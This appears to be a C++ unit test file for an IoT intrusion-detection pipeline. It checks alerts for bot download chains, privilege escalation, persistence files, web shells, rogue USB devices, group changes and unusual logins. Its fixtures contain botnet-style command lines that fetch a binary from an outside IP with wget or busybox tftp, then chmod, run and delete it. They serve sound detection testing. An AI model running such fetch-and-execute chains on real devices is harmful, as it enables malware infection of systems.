// What processes do one after another: bots, ways to root, web shells, ways to come back; hardware, accounts, logins.
#include <gtest/gtest.h>

#include "pipeline_harness.h"

namespace picket::pipeline {
namespace {

using Payload = std::vector<std::pair<std::string, std::string>>;

TestEvent started(int seconds, int pid, int parent, const std::string& executable, const std::string& line,
                  const std::string& user = "0", Payload more = {}) {
  more.emplace_back("ProcessId", std::to_string(pid));
  more.emplace_back("ParentProcessId", std::to_string(parent));
  more.emplace_back("UserId", user);
  return process(executable, line, more, noon(seconds));
}

TestEvent changed(int seconds, const std::string& path, const std::string& mask, int pid = 0,
                  const std::string& executable = "", Payload more = {}) {
  Payload payload{{"Path", path}, {"Mask", mask}, {"ProcessId", std::to_string(pid)}, {"Executable", executable}};
  payload.insert(payload.end(), more.begin(), more.end());
  return {"FileSystem", payload, noon(seconds), ""};
}

std::size_t count_after(const std::vector<TestEvent>& events, std::string_view type) {
  EngineHarness pipeline;
  for (const TestEvent& event : events) pipeline.feed({event}, event.time);
  return pipeline.alerts(type).size();
}

const Payload kInTmp{{"CurrentDirectory", "/tmp"}};

TEST(BotChain, FetchChmodRunWipe) {
  const std::vector<TestEvent> chain = {
      started(0, 10, 5, "/usr/bin/wget", "wget http://198.51.100.9/bins/arm7", "0", kInTmp),
      started(1, 11, 5, "/bin/chmod", "chmod 777 arm7", "0", kInTmp),
      started(2, 12, 5, "/tmp/arm7", "./arm7 telnet.wget", "0", kInTmp),
      started(3, 13, 5, "/bin/rm", "rm -rf arm7", "0", kInTmp),
  };
  EXPECT_GE(count_after(chain, "IoT_CommonBots"), 1u);
  EXPECT_EQ(count_after({started(0, 10, 5, "/bin/busybox", "busybox tftp -g -r k -l /dev/shm/k 198.51.100.9"),
                         started(1, 11, 5, "/bin/busybox", "/bin/busybox chmod +x /dev/shm/k"),
                         started(60, 12, 5, "/dev/shm/k", "/dev/shm/k")},
                        "IoT_CommonBots"),
            1u);
}

TEST(BotChain, PartsOfItAreEverydayWork) {
  EXPECT_EQ(count_after({started(0, 10, 5, "/usr/bin/wget", "wget https://example.org/tool.tgz", "0", kInTmp),
                         started(1, 11, 5, "/bin/tar", "tar xf tool.tgz", "0", kInTmp),
                         started(2, 12, 5, "/bin/rm", "rm tool.tgz", "0", kInTmp)},
                        "IoT_CommonBots"),
            0u)
      << "never run";
  EXPECT_EQ(count_after({started(0, 10, 5, "/usr/bin/curl", "curl -o /tmp/x https://example.org/x"),
                         started(400, 11, 5, "/bin/chmod", "chmod +x /tmp/x"), started(900, 12, 5, "/tmp/x", "/tmp/x")},
                        "IoT_CommonBots"),
            0u)
      << "too slow";
  EXPECT_EQ(count_after({started(0, 10, 5, "/usr/bin/wget", "wget https://example.org/a", "0",
                                 {{"CurrentDirectory", "/home/user"}}),
                         started(1, 11, 5, "/bin/chmod", "chmod +x a", "0", {{"CurrentDirectory", "/home/user"}}),
                         started(2, 12, 5, "/home/user/a", "./a", "0", {{"CurrentDirectory", "/home/user"}})},
                        "IoT_CommonBots"),
            0u)
      << "somebody's own folder";
}

TEST(Privilege, RootBelowAnOrdinaryUser) {
  const auto shell = started(0, 20, 19, "/bin/bash", "-bash", "1000");
  EXPECT_EQ(count_after({shell, started(5, 21, 20, "/bin/sh", "sh", "0")}, "IoT_PrivilegeEscalation"), 1u);
  EXPECT_EQ(count_after({shell, started(4, 20, 19, "/home/u/exploit", "./exploit", "1000"),
                         started(5, 20, 19, "/bin/sh", "sh", "0")},
                        "IoT_PrivilegeEscalation"),
            0u)
      << "the parent of the shell is not known: no verdict";
}

TEST(Privilege, TheUsualWaysAreNone) {
  const auto shell = started(0, 20, 19, "/bin/bash", "-bash", "1000");
  EXPECT_EQ(count_after({shell, started(5, 21, 20, "/usr/bin/sudo", "sudo id", "0"),
                         started(6, 22, 21, "/usr/bin/id", "id", "0")},
                        "IoT_PrivilegeEscalation"),
            0u);
  EXPECT_EQ(count_after({shell, started(5, 21, 20, "/usr/bin/sudo", "sudo id", "0"),
                         started(6, 21, 20, "/usr/bin/id", "id", "0")},
                        "IoT_PrivilegeEscalation"),
            0u)
      << "sudo becomes the command";
  EXPECT_EQ(count_after({shell, started(5, 21, 20, "/bin/sh", "sh", "0", {{"ContainerId", "abc"}})},
                        "IoT_PrivilegeEscalation"),
            0u);
  EXPECT_EQ(count_after({started(0, 20, 1, "/usr/sbin/cron", "cron", "0"), started(5, 21, 20, "/bin/sh", "sh", "0")},
                        "IoT_PrivilegeEscalation"),
            0u);
}

TEST(Privilege, FilesThatRunAsTheirOwner) {
  EXPECT_EQ(count_after({changed(0, "/tmp/.sh", "MetadataChanged", 30, "/bin/chmod", {{"Mode", "4755"}})},
                        "IoT_PrivilegeEscalation"),
            1u);
  EXPECT_EQ(count_after({changed(0, "/tmp/sh", "MetadataChanged", 30, "/bin/chmod", {{"Mode", "0755"}})},
                        "IoT_PrivilegeEscalation"),
            0u);
  EXPECT_EQ(count_after({changed(0, "/usr/bin/mount", "Created", 30, "/usr/bin/dpkg", {{"Mode", "4755"}})},
                        "IoT_PrivilegeEscalation"),
            0u);
}

TEST(Persistence, PlacesFromWhichProgramsStartAgain) {
  for (const char* const path :
       {"/etc/cron.d/x", "/etc/systemd/system/x.service", "/root/.ssh/authorized_keys", "/etc/ld.so.preload",
        "/etc/udev/rules.d/9.rules", "/home/u/.bashrc", "/etc/rc.local"}) {
    EXPECT_EQ(count_after({changed(0, path, "Modified", 40, "/usr/bin/vim")}, "IoT_Persistence"), 1u) << path;
    EXPECT_EQ(count_after({changed(0, path, "Deleted", 40, "/bin/rm")}, "IoT_Persistence"), 0u) << path;
  }
  EXPECT_EQ(count_after({changed(0, "/etc/hosts", "Modified", 40, "/usr/bin/vim")}, "IoT_Persistence"), 0u);
}

TEST(Persistence, PackageManagersAreKnownByWhoTheyStarted) {
  EXPECT_EQ(
      count_after({started(0, 50, 1, "/usr/bin/apt-get", "apt-get install x"),
                   started(1, 51, 50, "/usr/bin/dpkg", "dpkg --unpack"), started(2, 52, 51, "/bin/sh", "sh postinst"),
                   started(3, 53, 52, "/bin/cp", "cp a b"), changed(4, "/etc/cron.d/x", "Created", 53, "/bin/cp")},
                  "IoT_Persistence"),
      0u);
  EXPECT_EQ(count_after({started(0, 50, 1, "/tmp/dpkg2", "dpkg2"), started(3, 53, 50, "/bin/cp", "cp a b"),
                         changed(4, "/etc/cron.d/x", "Created", 53, "/bin/cp")},
                        "IoT_Persistence"),
            1u);
}

TEST(WebShell, ToolsBelowAWebServerHoweverDeep) {
  EXPECT_EQ(
      count_after({started(0, 60, 1, "/usr/sbin/php-fpm8.2", "php-fpm: pool www", "33"),
                   started(1, 61, 60, "/bin/sh", "sh -c id", "33"), started(2, 62, 61, "/usr/bin/id", "id", "33")},
                  "IoT_WebShell"),
      1u);
  EXPECT_EQ(count_after({started(0, 60, 1, "/usr/sbin/lighttpd", "lighttpd", "33"),
                         started(1, 61, 60, "/www/cgi-bin/a.cgi", "a.cgi", "33"),
                         started(2, 62, 61, "/bin/busybox", "wget http://198.51.100.1/x", "33")},
                        "IoT_WebShell"),
            1u);
  EXPECT_EQ(count_after({started(0, 60, 1, "/usr/sbin/sshd", "sshd", "0"),
                         started(1, 61, 60, "/bin/bash", "-bash", "0"), started(2, 62, 61, "/usr/bin/id", "id", "0")},
                        "IoT_WebShell"),
            0u);
  EXPECT_EQ(count_after({started(0, 60, 1, "/usr/sbin/apache2", "apache2", "33"),
                         started(1, 61, 60, "/usr/bin/convert", "convert a.png b.jpg", "33")},
                        "IoT_WebShell"),
            0u);
}

TEST(WebShell, ScriptThatTheServerWroteThenAShell) {
  const auto server = started(0, 60, 1, "/usr/sbin/apache2", "apache2", "33");
  const auto script = changed(1, "/var/www/html/upload/c.php", "Created", 60, "/usr/sbin/apache2");
  const auto shell = started(2, 61, 60, "/bin/sh", "sh -c ./deploy", "33");
  EXPECT_EQ(count_after({server, script, shell}, "IoT_WebShell"), 1u);
  EXPECT_EQ(count_after({server, shell}, "IoT_WebShell"), 0u);
}

TestEvent plugged(int seconds, const std::string& vendor, const std::string& product, int usb_class) {
  return {"Peripheral",
          {{"PeripheralType", "Usb"},
           {"ActionType", "Connected"},
           {"VendorId", vendor},
           {"ProductId", product},
           {"InterfaceClass", std::to_string(usb_class)}},
          noon(seconds),
          ""};
}

TEST(Hardware, KeyboardOnADeviceWithoutOne) {
  EXPECT_EQ(count_after({plugged(0, "16c0", "0486", 3)}, "IoT_UnusualHardware"), 1u);
  EXPECT_EQ(count_after({plugged(0, "16c0", "0486", 3), plugged(100, "16c0", "0486", 3)}, "IoT_UnusualHardware"), 1u);
  EXPECT_EQ(count_after({plugged(0, "0781", "5567", 8)}, "IoT_UnusualHardware"), 0u) << "a stick, while learning";
  TestEvent disguised = plugged(0, "0781", "5567", 8);
  disguised.payload.emplace_back("ExtraDetails", R"({"InterfaceClasses":"8,3"})");
  EXPECT_EQ(count_after({disguised}, "IoT_UnusualHardware"), 1u) << "a stick that types";
}

TEST(Hardware, WhatNoOtherDeviceOfTheModelHas) {
  const int day = 86'400;
  EXPECT_EQ(count_after({plugged(0, "0781", "5567", 8), plugged(8 * day, "0bda", "8153", 255)}, "IoT_UnusualHardware"),
            1u);
  EXPECT_EQ(count_after({plugged(0, "0781", "5567", 8), plugged(8 * day, "0781", "5567", 8)}, "IoT_UnusualHardware"),
            0u);
}

TEST(Hardware, ProgramFromAStick) {
  const auto stick = plugged(0, "0781", "5567", 8);
  const auto run = started(60, 70, 5, "/media/usb0/setup", "/media/usb0/setup");
  EXPECT_EQ(count_after({stick, run}, "IoT_RemovableMediaExecution"), 1u);
  EXPECT_EQ(count_after({run}, "IoT_RemovableMediaExecution"), 0u) << "no stick came";
  EXPECT_EQ(count_after({stick, started(60, 70, 5, "/usr/bin/setup", "setup")}, "IoT_RemovableMediaExecution"), 0u);
}

TestEvent account(int seconds, const std::string& user, const std::string& groups, const std::string& change = "") {
  TestEvent out{"LocalUsers",
                {{"UserId", "1001"}, {"UserName", user}, {"GroupIds", "1"}, {"GroupNames", groups}},
                noon(seconds),
                ""};
  if (!change.empty()) out.payload.emplace_back("ExtraDetails", R"({"Change":")" + change + R"("})");
  return out;
}

TEST(LocalAccounts, GroupsGainedAndLost) {
  EXPECT_EQ(count_after({account(0, "op", "users"), account(10, "op", "users;sudo")}, "IoT_LocalUserAddedToGroup"), 1u);
  EXPECT_EQ(count_after({account(0, "op", "users;sudo"), account(10, "op", "users")}, "IoT_LocalUserRemovedFromGroup"),
            1u);
  EXPECT_EQ(count_after({account(0, "op", "users;sudo"), account(10, "op", "sudo;users")}, "IoT_LocalUserAddedToGroup"),
            0u);
  EXPECT_EQ(count_after({account(0, "op", "users")}, "IoT_LocalUserAddedToGroup"), 0u) << "first seen";
  EXPECT_EQ(count_after({account(10, "op", "users;sudo"), account(0, "op", "users")}, "IoT_LocalUserRemovedFromGroup"),
            0u)
      << "an older snapshot that came late";
}

TEST(UnusualLogin, LearnsThenTellsWhatIsNew) {
  EngineHarness pipeline;
  const int day = 86'400;
  for (int i = 0; i < 30; ++i) pipeline.feed({good_login(noon(i * day / 2), "10.1.2.3", "op")}, noon(i * day / 2));
  EXPECT_TRUE(pipeline.alerts("IoT_UnusualLogin").empty());
  pipeline.feed({good_login(noon(15 * day), "10.1.2.99", "op")}, noon(15 * day));
  EXPECT_TRUE(pipeline.alerts("IoT_UnusualLogin").empty()) << "same network";
  pipeline.restart();
  pipeline.feed({good_login(noon(15 * day + 60), "203.0.113.5", "op")}, noon(15 * day + 60));
  ASSERT_EQ(pipeline.alerts("IoT_UnusualLogin").size(), 1u);
  pipeline.feed({good_login(noon(15 * day + 120), "203.0.113.6", "op")}, noon(15 * day + 120));
  EXPECT_EQ(pipeline.alerts("IoT_UnusualLogin").size(), 1u) << "known by now";
}

TEST(UnusualLogin, AnotherFirmwareStartsAnew) {
  EngineHarness pipeline;
  const int day = 86'400;
  for (int i = 0; i < 30; ++i) pipeline.feed({good_login(noon(i * day / 2), "10.1.2.3", "op")}, noon(i * day / 2));
  pipeline.feed({{"SystemInformation", {{"HardwareModel", "gw"}, {"FirmwareVersion", "2"}}, noon(15 * day), ""}},
                noon(15 * day));
  pipeline.feed({good_login(noon(15 * day + 60), "203.0.113.5", "op")}, noon(15 * day + 60));
  EXPECT_TRUE(pipeline.alerts("IoT_UnusualLogin").empty());
}

}  // namespace
}  // namespace picket::pipeline
